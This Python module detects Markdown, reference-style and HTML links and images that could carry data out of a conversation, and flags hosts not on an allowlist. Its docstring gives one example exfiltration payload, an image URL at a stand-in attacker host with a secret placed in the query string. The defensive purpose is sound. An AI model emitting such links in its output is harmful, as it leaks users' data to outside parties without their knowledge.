"""Markdown and HTML links and images that could carry data out of a conversation.

A rendered ``![](https://evil.example/p.png?q=SECRET)`` makes the reader's client fetch the URL
with no click; a link needs one click. Both are reported when their host is not in the
allowlist (the host itself or a subdomain of an allowlisted host). Relative URLs and
``mailto:`` are not network fetches and are not reported.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import urlsplit

_MD_IMAGE = re.compile(r"!\[[^\]\n]{0,1000}\]\(\s*<?([^)\s>]{1,4000})")
_MD_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,1000}\]\(\s*<?([^)\s>]{1,4000})")
_MD_REF = re.compile(r"^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(\S{1,4000}?)>?(?:\s|$)", re.MULTILINE)
_HTML = re.compile(
    r"<(img|a|iframe|script|link|source|video|audio)\b[^>]{0,2000}?\b(?:src|href)\s*=\s*[\"']?([^\"'\s>]{1,4000})",
    re.IGNORECASE,
)
_BARE = re.compile(r"\bhttps?://[^\s<>()\"']{1,4000}")


@dataclass(frozen=True, slots=True)
class Link:
    kind: str  # "image", "link" or "url"
    url: str
    host: str
    start: int
    has_query: bool


def host_allowed(host: str, allowed: Iterable[str]) -> bool:
    """Whether ``host`` is an allowlisted host or a subdomain of one."""
    host = host.lower().rstrip(".")
    for entry in allowed:
        entry = entry.lower().strip().rstrip(".")
        if entry and (host == entry or host.endswith("." + entry)):
            return True
    return False


def _link(kind: str, url: str, start: int) -> Link | None:
    url = url.strip().strip("<>")
    if url.startswith("//"):
        url = "https:" + url
    try:
        parts = urlsplit(url)
    except ValueError:
        return Link(kind, url, "(unparseable)", start, "?" in url)
    if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss") or not parts.hostname:
        return None
    return Link(kind, url, parts.hostname, start, bool(parts.query or parts.fragment))


def find_links(text: str, *, bare_urls: bool = False) -> Iterator[Link]:
    """Every image and link with a network host in ``text`` (bare URLs too when asked)."""
    seen: set[int] = set()
    sources: list[tuple[str, re.Pattern[str], int]] = [
        ("image", _MD_IMAGE, 1),
        ("link", _MD_LINK, 1),
        ("link", _MD_REF, 1),
    ]
    for kind, pattern, group in sources:
        for m in pattern.finditer(text):
            found = _link(kind, m.group(group), m.start(group))
            if found is not None and found.start not in seen:
                seen.add(found.start)
                yield found
    for m in _HTML.finditer(text):
        kind = "image" if m.group(1).lower() in ("img", "source", "video", "audio") else "link"
        found = _link(kind, m.group(2), m.start(2))
        if found is not None and found.start not in seen:
            seen.add(found.start)
            yield found
    if bare_urls:
        for m in _BARE.finditer(text):
            found = _link("url", m.group(0), m.start())
            if found is not None and m.start() not in seen:
                seen.add(m.start())
                yield found
